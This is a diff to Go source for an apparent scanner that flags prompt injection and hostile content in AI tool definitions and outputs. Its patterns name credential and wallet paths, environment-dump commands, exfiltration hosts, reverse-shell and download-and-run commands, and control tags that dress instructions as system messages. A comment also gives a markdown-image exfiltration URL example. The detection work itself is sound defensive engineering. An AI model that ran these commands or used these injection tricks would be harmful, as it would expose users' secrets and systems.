@@ -13,44 +13,32 @@ var sensitivePaths = []string{
 	".zsh_history", "claude_desktop_config.json", "mcp.json", ".cursor/", "cline_mcp_settings", "mcp_settings.json",
 	"/proc/self/environ", "wallet.dat", ".config/gcloud", "application_default_credentials", ".azure/", "login data",
 	"cookies.sqlite", ".vault-token", "credentials.json", "service-account", "secrets.yaml", "secrets.json", ".env",
+	// commands and expressions that dump the environment
+	"printenv", "process.env", "os.environ", "$env:", "get-childitem env:", "env | ", "export -p",
 }
 
 // markPaths marks tokens inside sensitive paths and notes each path once.
 func (a *analysis) markPaths(s *scanned, field string) {
 	f := s.f
-	for _, p := range sensitivePaths {
-		off := 0
-		for {
-			i := strings.Index(f[off:], p)
-			if i < 0 {
-				break
-			}
-			i += off
-			off = i + len(p)
-			if p == ".env" {
-				// ".env" as a file, not ".environment" or "process.env.X"
-				if off < len(f) && isWordByte(f[off]) || i > 0 && isWordByte(f[i-1]) {
-					continue
-				}
-			}
-			if p == "mcp.json" && i > 0 && isWordByte(f[i-1]) && f[i-1] != '/' {
-				// "server-mcp.json"? still a client config name: keep
-			}
-			end := off
-			for end < len(f) && isIdentByte(f[end]) {
-				end++
-			}
-			start := i
-			for start > 0 && isIdentByte(f[start-1]) {
-				start--
-			}
-			for k := range s.toks {
-				if s.toks[k].end > start && s.toks[k].start < end {
-					s.toks[k].path = true
-				}
-			}
-			a.add(sigSensitivePath, field, wSensitivePath, f[start:end])
+	for _, h := range a.anch {
+		if !pathAnchor[h.pat] {
+			continue
 		}
+		p, i := anchorList[h.pat], h.pos
+		off := i + len(p)
+		if p == ".env" && (off < len(f) && isWordByte(f[off]) || i > 0 && isWordByte(f[i-1])) {
+			continue // ".env" as a file, not ".environment" or "process.env.X"
+		}
+		end := off
+		for end < len(f) && isIdentByte(f[end]) {
+			end++
+		}
+		start := i
+		for start > 0 && isIdentByte(f[start-1]) {
+			start--
+		}
+		s.markRange(start, end, func(t *tok) { t.path = true })
+		a.add(sigSensitivePath, field, wSensitivePath, f[start:end])
 	}
 }
 
@@ -61,13 +49,12 @@ var suspiciousHosts = []string{"ngrok", "webhook.site", "requestbin", "pipedream
 // sentence that asks for something to be sent.
 func (a *analysis) markURLs(s *scanned, field string) {
 	f := s.f
-	off := 0
-	for n := 0; n < 64; n++ {
-		i := strings.Index(f[off:], "://")
-		if i < 0 {
+	off, n := 0, 0
+	a.anch.each("://", func(i int) {
+		if i < off || n >= 64 {
 			return
 		}
-		i += off
+		n++
 		start := i
 		for start > 0 && isWordByte(f[start-1]) {
 			start--
@@ -79,14 +66,10 @@ func (a *analysis) markURLs(s *scanned, field string) {
 		off = end
 		scheme := f[start:i]
 		if scheme == "" {
-			continue
+			return
 		}
 		url := f[start:end]
-		for k := range s.toks {
-			if s.toks[k].end > start && s.toks[k].start < end {
-				s.toks[k].url = true
-			}
-		}
+		s.markRange(start, end, func(t *tok) { t.url = true })
 		a.add(sigURL, field, wURL, url)
 		host := url[len(scheme)+3:]
 		if j := strings.IndexAny(host, "/?#"); j >= 0 {
@@ -100,16 +83,27 @@ func (a *analysis) markURLs(s *scanned, field string) {
 		}
 		k := s.sentenceOf(start)
 		if k < 0 {
-			continue
+			return
 		}
 		lo, hi := s.sents[k][0], s.sents[k][1]
+		// a URL whose query is a placeholder for data the model is to fill
+		// in (markdown-image exfiltration: ![x](https://h/p?d={history}))
+		if q := strings.IndexByte(url, '?'); q > 0 && strings.ContainsAny(url[q:], "{<$[") && !strings.Contains(url[q:], "your") {
+			image := start >= 2 && strings.HasSuffix(f[:start], "](") && strings.Contains(f[max(0, start-200):start], "![")
+			switch {
+			case image && strings.ContainsAny(url[q:], "{<") && !strings.Contains(url, "shields.io") && !strings.Contains(url, "badge"):
+				a.add(sigURLTemplate, field, wURLTemplate, url)
+			case a.unnegatedAction(s, lo, hi, rSend|rInclude) || s.mask(lo, hi)&(rConv|rCred) != 0:
+				a.add(sigURLPlaceholder, field, wURLPlaceholder, url)
+			}
+		}
 		if a.unnegatedAction(s, lo, hi, rSend) {
 			a.add(sigURLSend, field, wURLSend, s.span(lo, hi))
 			if suspicious {
 				a.add(sigSuspiciousHost, field, wSuspiciousHost, url)
 			}
 		}
-	}
+	})
 }
 
 func isIPHost(h string) bool {
@@ -140,29 +134,54 @@ var templateTokens = []string{
 
 // controlTags are XML-ish tag names used to dress an instruction as a
 // control message; they weigh only with an instruction inside.
-var controlTags = map[string]bool{
-	"important": true, "system": true, "instructions": true, "instruction": true, "admin": true, "secret": true,
-	"hidden": true, "system_prompt": true, "system-prompt": true, "override": true, "critical": true, "note_to_ai": true,
-	"ai": true, "assistant": true, "prompt": true, "rules": true, "policy": true, "urgent": true, "warning": true,
-	"sys": true, "developer": true, "admin_note": true, "system_message": true, "system-message": true, "note": true,
-	"priority": true, "mandatory": true, "security": true, "compliance": true, "context": true, "directive": true,
+var controlTags = map[string]int{
+	// 2: names that dress text as a control message
+	"important": 2, "system": 2, "admin": 2, "secret": 2, "hidden": 2, "system_prompt": 2, "system-prompt": 2,
+	"override": 2, "critical": 2, "note_to_ai": 2, "ai": 2, "assistant": 2, "urgent": 2, "sys": 2, "developer": 2,
+	"admin_note": 2, "system_message": 2, "system-message": 2, "priority": 2, "mandatory": 2, "directive": 2,
+	// 1: names real definitions use for documentation blocks
+	"instructions": 1, "instruction": 1, "prompt": 1, "rules": 1, "policy": 1, "warning": 1, "note": 1,
+	"security": 1, "compliance": 1, "context": 1,
 }
 
-// instructionIn reports whether folded text holds an instruction: an
-// action with an obligation, ordering or addressee, an override, or
-// secrecy.
-func instructionIn(f string) bool {
+// instructionIn reports whether folded text holds an instruction (see
+// instructionLevel).
+func instructionIn(f string) bool { return instructionLevel(f) > 0 }
+
+// instructionLevel grades folded text: 2 when it holds the shape of an
+// attack (secrecy toward the user, stealth, an override, an action on a
+// credential, the conversation or a sensitive path), 1 for a plain
+// instruction (an action with an obligation, ordering or addressee), 0
+// otherwise.
+func instructionLevel(f string) int {
 	s := scan(f)
+	lvl := 0
 	for _, r := range s.sents {
 		m := s.mask(r[0], r[1])
-		if m&actionRoles != 0 && m&(rAddr|rOblig|rOrder|rStealth) != 0 {
-			return true
+		if m&rIgnore != 0 && m&rInstr != 0 || m&rNeg != 0 && m&rDisclose != 0 && m&rUser != 0 || m&rStealth != 0 && m&actionRoles != 0 {
+			return 2
 		}
-		if m&rIgnore != 0 && m&rInstr != 0 || m&rNeg != 0 && m&rDisclose != 0 && m&rUser != 0 {
-			return true
+		if m&actionRoles != 0 && m&(rCred|rConv) != 0 {
+			return 2
+		}
+		if m&actionRoles != 0 && m&(rAddr|rOblig|rOrder|rStealth) != 0 {
+			lvl = 1
 		}
 	}
-	return false
+	if lvl > 0 {
+		for _, p := range sensitivePaths {
+			if strings.Contains(f, p) {
+				return 2
+			}
+		}
+	}
+	return lvl
+}
+
+// hasAction reports an action verb in folded text.
+func hasAction(f string) bool {
+	s := scan(f)
+	return len(s.toks) > 0 && s.mask(0, len(s.toks))&actionRoles != 0
 }
 
 // markup scores chat-template tokens, control tags and comments.
@@ -171,46 +190,46 @@ func (a *analysis) markup(f string, s *scanned, field string) {
 		return
 	}
 	for _, tt := range templateTokens {
-		if i := strings.Index(f, tt); i >= 0 {
+		if i := a.anch.first(tt); i >= 0 {
 			a.add(sigTemplateToken, field, wTemplateToken, f[i:min(len(f), i+len(tt)+60)])
 			break
 		}
 	}
 	// generic <|name|> tokens
-	if i := strings.Index(f, "<|"); i >= 0 {
+	if i := a.anch.first("<|"); i >= 0 {
 		if j := strings.Index(f[i+2:], "|>"); j > 0 && j < 24 && isWordish(f[i+2:i+2+j]) {
 			a.add(sigTemplateToken, field, wTemplateToken, f[i:min(len(f), i+4+j+60)])
 		}
 	}
 	// HTML comments and Markdown link-reference comments
-	for off, n := 0, 0; n < 32; n++ {
-		i := strings.Index(f[off:], "<!--")
-		if i < 0 {
-			break
+	off, n := 0, 0
+	a.anch.each("<!--", func(i int) {
+		if i < off || n >= 32 {
+			return
 		}
-		i += off
+		n++
 		j := strings.Index(f[i+4:], "-->")
 		end := len(f)
 		if j >= 0 {
 			end = i + 4 + j
 		}
 		body := f[i+4 : end]
-		if instructionIn(body) {
-			a.add(sigCommentInstr, field, wCommentInstr, body)
+		if lvl := instructionLevel(body); lvl > 0 {
+			a.add(sigCommentInstr, field, []float64{0, wCommentPlain, wCommentInstr}[lvl], body)
 		} else {
 			a.add(sigComment, field, wComment, body)
 		}
 		off = min(len(f), end+3)
-	}
-	for _, p := range []string{"[//]: #", "[comment]: #", "[//]: <>", "[comment]: <>"} {
-		if i := strings.Index(f, p); i >= 0 {
+	})
+	for _, p := range mdComments {
+		if i := a.anch.first(p); i >= 0 {
 			end := strings.IndexByte(f[i:], '\n')
 			if end < 0 {
 				end = len(f) - i
 			}
 			body := f[i+len(p) : i+end]
-			if instructionIn(body) {
-				a.add(sigCommentInstr, field, wCommentInstr, body)
+			if lvl := instructionLevel(body); lvl > 0 {
+				a.add(sigCommentInstr, field, []float64{0, wCommentPlain, wCommentInstr}[lvl], body)
 			} else {
 				a.add(sigComment, field, wComment, body)
 			}
@@ -232,7 +251,7 @@ func (a *analysis) markup(f string, s *scanned, field string) {
 			continue
 		}
 		name := f[i+1 : j]
-		if !controlTags[name] {
+		if controlTags[name] == 0 {
 			continue
 		}
 		gt := strings.IndexByte(f[j:], '>')
@@ -245,9 +264,14 @@ func (a *analysis) markup(f string, s *scanned, field string) {
 			end = min(len(f)-bodyStart, 600)
 		}
 		body := f[bodyStart : bodyStart+end]
-		if instructionIn(body) {
+		switch lvl := instructionLevel(body); {
+		case lvl == 2:
 			a.add(sigControlTag, field, wControlTag, f[i:min(len(f), bodyStart+end)])
-		} else {
+		case lvl == 1 && controlTags[name] == 2:
+			// <IMPORTANT>, <system>, <admin> … around orders: never seen in
+			// real definitions; <instructions> and <rules> blocks are
+			a.add(sigControlTag, field, wControlTagPlain, f[i:min(len(f), bodyStart+end)])
+		default:
 			a.add(sigControlTagWeak, field, wControlTagWeak, f[i:bodyStart])
 		}
 		off = bodyStart
@@ -275,9 +299,11 @@ func (a *analysis) roleLines(f, field string) {
 			end += start
 		}
 		line := strings.TrimLeft(f[start:end], " #*>-[(_")
-		label, rest, ok := strings.Cut(line, ":")
-		if !ok {
-			label, rest, ok = strings.Cut(line, "]")
+		cut := strings.IndexAny(line, ":]")
+		ok := cut >= 0
+		label, rest := line, ""
+		if ok {
+			label, rest = line[:cut], line[cut+1:]
 		}
 		if ok && len(label) <= 24 {
 			label = strings.TrimRight(label, " *])_")
@@ -292,7 +318,7 @@ func (a *analysis) roleLines(f, field string) {
 				}
 			case "system", "system message", "system prompt", "system note", "system override", "system notice", "sys",
 				"instruction", "instructions", "admin", "developer", "developer message", "admin note", "new instructions", "critical":
-				if instructionIn(rest) {
+				if instructionIn(rest) || a.ctx.Surface.serverToModel() && hasAction(rest) {
 					a.add(sigRoleLine, field, wRoleLine, f[start:end])
 				} else {
 					a.add(sigRoleLineWeak, field, wRoleLineWeak, f[start:end])
@@ -303,14 +329,18 @@ func (a *analysis) roleLines(f, field string) {
 	}
 	if human >= 0 && assistant >= 0 {
 		at := min(human, assistant)
-		a.add(sigTurnForgery, field, wTurnForgery, f[at:min(len(f), at+100)])
+		w := wTurnForgery
+		if a.ctx.Surface == PromptMessages || a.ctx.Surface == SamplingRequest {
+			w = wRoleLineWeak // few-shot turns are what prompts and sampling messages are made of
+		}
+		a.add(sigTurnForgery, field, w, f[at:min(len(f), at+100)])
 	}
 }
 
 // commands scores download-and-run, encoded PowerShell, reverse shells
 // and install-and-run instructions.
 func (a *analysis) commands(f string, s *scanned, field string) {
-	if !strings.ContainsAny(f, "|&;$`-/") {
+	if len(a.anch) == 0 {
 		return
 	}
 	add := func(sig string, w float64, at int) {
@@ -326,45 +356,45 @@ func (a *analysis) commands(f string, s *scanned, field string) {
 			}
 		}
 	}
-	for _, fetch := range []string{"curl ", "wget ", "iwr ", "irm ", "invoke-webrequest", "invoke-restmethod", "fetch("} {
-		for off, n := 0, 0; n < 16; n++ {
-			i := strings.Index(f[off:], fetch)
-			if i < 0 {
-				break
+	for _, fetch := range fetchAnchors {
+		n := 0
+		a.anch.each(fetch, func(i int) {
+			if n >= 16 {
+				return
 			}
-			i += off
-			off = i + len(fetch)
+			n++
 			line := f[i:]
 			if nl := strings.IndexByte(line, '\n'); nl >= 0 {
 				line = line[:nl]
 			}
-			if p := strings.IndexByte(line, '|'); p >= 0 {
-				after := strings.TrimLeft(line[p+1:], " ")
-				after = strings.TrimPrefix(after, "sudo ")
-				for _, sh := range []string{"sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "iex", "invoke-expression", "powershell", "pwsh", "source"} {
-					if strings.HasPrefix(after, sh) && (len(after) == len(sh) || !isWordByte(after[len(sh)])) {
-						add(sigDownloadExec, wDownloadExec, i)
-						goto next
-					}
+			p := strings.IndexByte(line, '|')
+			if p < 0 {
+				return
+			}
+			after := strings.TrimLeft(line[p+1:], " ")
+			after = strings.TrimPrefix(after, "sudo ")
+			for _, sh := range []string{"sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "iex", "invoke-expression", "powershell", "pwsh", "source"} {
+				if strings.HasPrefix(after, sh) && (len(after) == len(sh) || !isWordByte(after[len(sh)])) {
+					add(sigDownloadExec, wDownloadExec, i)
+					return
 				}
 			}
-		next:
-		}
+		})
 	}
-	for _, p := range []string{"bash <(curl", "bash <(wget", "sh <(curl", "$(curl", "$(wget", "`curl ", "`wget ", "source <(curl"} {
-		if i := strings.Index(f, p); i >= 0 {
+	for _, p := range execAnchors {
+		if i := a.anch.first(p); i >= 0 {
 			add(sigDownloadExec, wDownloadExec, i)
 			break
 		}
 	}
-	if i := strings.Index(f, "chmod +x"); i >= 0 {
+	if i := a.anch.first("chmod +x"); i >= 0 {
 		rest := f[i:min(len(f), i+200)]
 		if strings.Contains(rest, "&& ./") || strings.Contains(rest, "; ./") || strings.Contains(rest, "&&./") {
 			add(sigDownloadExec, wDownloadExec, i)
 		}
 	}
-	for _, p := range []string{"base64 -d", "base64 --decode", "base64 -di", "certutil -decode", "frombase64string"} {
-		if i := strings.Index(f, p); i >= 0 {
+	for _, p := range decodeAnchors {
+		if i := a.anch.first(p); i >= 0 {
 			rest := f[i:min(len(f), i+120)]
 			if strings.Contains(rest, "| sh") || strings.Contains(rest, "| bash") || strings.Contains(rest, "|sh") || strings.Contains(rest, "|bash") || strings.Contains(rest, "iex") || strings.Contains(rest, "invoke-expression") || p == "frombase64string" {
 				add(sigEncodedCommand, wEncodedCommand, i)
@@ -372,30 +402,29 @@ func (a *analysis) commands(f string, s *scanned, field string) {
 			}
 		}
 	}
-	for _, ps := range []string{"powershell", "pwsh"} {
-		for off, n := 0, 0; n < 8; n++ {
-			i := strings.Index(f[off:], ps)
-			if i < 0 {
-				break
+	ps := false
+	for _, p := range psAnchors {
+		a.anch.each(p, func(i int) {
+			if ps {
+				return
 			}
-			i += off
-			off = i + len(ps)
+			off := i + len(p)
 			rest := f[off:min(len(f), off+60)]
 			for _, e := range []string{" -enc ", " -e ", " -encodedcommand ", " -ec ", " -en "} {
 				if j := strings.Index(rest, e); j >= 0 && j < 40 {
 					add(sigEncodedCommand, wEncodedCommand, i)
-					goto psDone
+					ps = true
+					return
 				}
 			}
 			if strings.Contains(rest, "iex") || strings.Contains(rest, "downloadstring") {
 				add(sigDownloadExec, wDownloadExec, i)
-				goto psDone
+				ps = true
 			}
-		}
+		})
 	}
-psDone:
-	for _, p := range []string{"/dev/tcp/", "/dev/udp/", "nc -e ", "ncat -e ", "nc -c ", "bash -i >&", "sh -i >&", "mkfifo /tmp/", "socat exec:", "socat tcp", "0<&196", "telnet ", "pty.spawn("} {
-		if i := strings.Index(f, p); i >= 0 {
+	for _, p := range shellAnchors {
+		if i := a.anch.first(p); i >= 0 {
 			if p == "telnet " && !strings.Contains(f[i:min(len(f), i+80)], "| /bin/") {
 				continue
 			}
@@ -403,15 +432,17 @@ psDone:
 			break
 		}
 	}
-	for _, p := range []string{"npx ", "pip install ", "pip3 install ", "npm install ", "npm i ", "uvx ", "go install ", "pipx run ", "bunx ", "curl -o ", "wget -o "} {
-		i := strings.Index(f, p)
+	for _, p := range installAnchors {
+		i := a.anch.first(p)
 		if i < 0 {
 			continue
 		}
 		a.add(sigInstallCommand, field, wInstallCommand, f[i:min(len(f), i+80)])
 		if k := s.sentenceOf(i); k >= 0 {
 			m := s.mask(s.sents[k][0], s.sents[k][1])
-			if m&rOrder != 0 && m&(rCall|rOblig) != 0 && m&(rAddr|rOblig) != 0 {
+			// in results and resources this is README text; in a tool's
+			// own description it is an order to the model
+			if m&rOrder != 0 && m&(rCall|rOblig) != 0 && m&(rAddr|rOblig) != 0 && !a.ctx.Surface.serverToModel() {
 				a.add(sigInstallRun, field, wInstallRun, s.span(s.sents[k][0], s.sents[k][1]))
 			}
 		}
